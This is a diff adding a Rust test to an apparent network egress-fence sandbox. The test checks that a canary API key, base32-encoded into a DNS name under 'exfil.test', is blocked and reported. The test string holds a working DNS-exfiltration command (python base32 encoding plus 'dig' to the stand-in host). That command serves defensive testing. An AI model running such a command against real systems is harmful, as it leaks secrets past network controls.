@@ -220,6 +220,67 @@ fn a_resolve_mode_policy_is_refused_and_nothing_runs() {
     assert!(!marker.exists(), "CMD ran without a fence");
 }
 
+/// The canary: a token asked as a DNS name (base32, split across labels) is refused by the
+/// guard and trips the canary (exit 99, whatever CMD's code), never reaching the resolver; a
+/// run that does not leak it keeps CMD's code.
+#[test]
+fn a_canary_asked_as_a_dns_name_is_refused_and_trips() {
+    let w = World::new();
+    let policy = setup(&w);
+    let file = w.dir().join("canary.env");
+    let report = w.dir().join("canary.json");
+    let leak = "test \"$(cat canary.env)\" = \"CANARY_API_KEY=$CANARY_API_KEY\" && echo file-ok; \
+        name=$(python3 -c 'import base64,os; e=base64.b32encode(os.environ[\"CANARY_API_KEY\"].encode()).decode().rstrip(\"=\"); print(e[:32]+\".\"+e[32:])'); \
+        dig +time=1 +tries=1 \"$name.exfil.test\" >/dev/null; exit 4";
+    let mut cmd = exec_command(
+        &w,
+        &policy,
+        &[
+            "--canary",
+            "--canary-file",
+            "canary.env",
+            "--report",
+            report.to_str().expect("utf-8 path"),
+        ],
+        leak,
+    );
+    cmd.current_dir(w.dir());
+    let out = cmd.output().expect("run egress-fence exec");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+    assert!(stdout.contains("file-ok"), "{}", show(&out));
+    assert!(!file.exists(), "the canary file is left");
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("CANARY TRIPPED"),
+        "{}",
+        show(&out)
+    );
+    let json: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("JSON");
+    assert_eq!(json["canary_tripped"], true, "{json}");
+    assert_eq!(json["exit_code"], 4, "{json}");
+    assert!(
+        !w.dns_queries()
+            .iter()
+            .any(|n| n.to_ascii_lowercase().contains("exfil")),
+        "the token reached the resolver"
+    );
+
+    // No leak: CMD's own code, and the canary said clean.
+    let out = exec(
+        &w,
+        &policy,
+        &["--canary"],
+        "test -n \"$CANARY_API_KEY\" && exit 6",
+    );
+    assert_eq!(out.status.code(), Some(6), "{}", show(&out));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("in no refused DNS question"),
+        "{}",
+        show(&out)
+    );
+}
+
 /// Started by `ip netns exec SANDBOX` (a mount namespace of its own, the sandbox's resolv.conf
 /// bound over /etc/resolv.conf) instead of `--netns`.
 #[test]
